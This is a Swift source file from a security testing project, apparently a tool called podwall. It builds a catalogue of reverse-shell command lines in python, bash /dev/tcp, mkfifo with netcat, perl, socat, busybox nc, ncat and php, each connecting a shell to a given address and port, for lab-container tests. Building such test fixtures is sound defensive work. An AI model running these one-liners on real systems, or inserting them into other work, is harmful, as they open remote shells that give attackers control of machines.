/// Command lines of the reverse shells attackers use (research:
/// `../shared/research/reverse-shells.md`), to run in a lab container: each
/// connects to `address`:`port` and gives a shell whose commands come from
/// that connection. The process tests and `podwall eval` play them.
public enum ReverseShells {
    /// python connects, makes the connection its fds 0-2 and execs `program`
    /// (`/bin/<program[0]>`): the shell starts with the socket on its stdio.
    public static func pythonExecs(_ program: [String], connectedTo address: String, port: UInt16) -> [String] {
        let arguments = program.map { "\"\($0)\"" }.joined(separator: ",")
        return [
            "python3", "-c",
            "import socket,os;s=socket.create_connection((\"\(address)\",\(port)));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/\(program[0])\",[\(arguments)])"
        ]
    }

    /// `bash -i >& /dev/tcp/H/P 0>&1`: the child bash opens the connection
    /// and dup2s it onto 0-2 before it execs `bash -i`.
    public static func bashDevTCP(_ address: String, _ port: UInt16) -> [String] {
        ["bash", "-c", "bash -i >& /dev/tcp/\(address)/\(port) 0>&1"]
    }

    /// A running bash makes a connection its own stdio with `exec` (no new
    /// program), then runs `then` (by default an interactive shell on that stdio).
    public static func selfRedirect(_ address: String, _ port: UInt16, then command: String = "exec sh -i") -> [String] {
        ["bash", "-c", "exec 5<>/dev/tcp/\(address)/\(port); exec 0<&5 1>&5 2>&5; \(command)"]
    }

    /// `mkfifo` + `nc`: the shell reads commands from a pipe that nc, connected, fills.
    public static func mkfifoNetcat(_ address: String, _ port: UInt16) -> [String] {
        ["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc \(address) \(port) > /tmp/f"]
    }

    /// The perl one-liner: perl dup2s the socket onto its stdio and execs `sh -i`.
    public static func perl(_ address: String, _ port: UInt16) -> [String] {
        [
            "perl", "-e",
            "use Socket;$i=\"\(address)\";$p=\(port);socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};"
        ]
    }

    /// The python one-liner with `pty.spawn`: python dup2s the socket onto
    /// its stdio and spawns a shell on a pty it relays.
    public static func pythonPTYSpawn(_ address: String, _ port: UInt16) -> [String] {
        [
            "python3", "-c",
            "import socket,os,pty;s=socket.create_connection((\"\(address)\",\(port)));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"
        ]
    }

    /// python keeps the connection to itself (no dup2 of the socket) and
    /// pumps it to and from a shell on a pty: the shell's stdio is never a socket.
    public static func pythonPTYRelay(_ address: String, _ port: UInt16, shell: String = "sh", seconds: Int = 10) -> [String] {
        [
            "python3", "-c",
            """
            import socket,os,pty,select
            s=socket.create_connection(("\(address)",\(port)))
            pid,fd=pty.fork()
            if pid==0: os.execv("/bin/\(shell)",["\(shell)","-i"])
            while True:
                r,_,_=select.select([s,fd],[],[],\(seconds))
                if not r: break
                try:
                    if s in r:
                        d=s.recv(1024)
                        if not d: break
                        os.write(fd,d)
                    if fd in r:
                        d=os.read(fd,1024)
                        if not d: break
                        s.send(d)
                except OSError: break
            """
        ]
    }

    /// socat runs `sh -i` on its connection: on a socketpair by default, on a pty with `pty`.
    public static func socat(_ address: String, _ port: UInt16, pty: Bool) -> [String] {
        ["socat", "exec:sh -i" + (pty ? ",pty,stderr,setsid,sigint,sane" : ""), "tcp:\(address):\(port)"]
    }

    /// busybox's nc runs the program after it connects, with the connection as its stdio.
    public static func busyboxNetcat(_ address: String, _ port: UInt16) -> [String] {
        ["busybox", "nc", address, String(port), "-e", "/bin/sh"]
    }

    /// nmap's ncat hands its connection to `sh -c` as stdio (`--sh-exec`).
    public static func ncat(_ address: String, _ port: UInt16) -> [String] {
        ["ncat", address, String(port), "--sh-exec", "sh -i"]
    }

    /// The php one-liner with proc_open: php's child makes the socket its
    /// fds 0-2 and execs `sh -c 'sh -i'`.
    public static func php(_ address: String, _ port: UInt16) -> [String] {
        ["php", "-r", "$s=fsockopen(\"\(address)\",\(port));proc_open(\"sh -i\",[0=>$s,1=>$s,2=>$s],$p);"]
    }
}
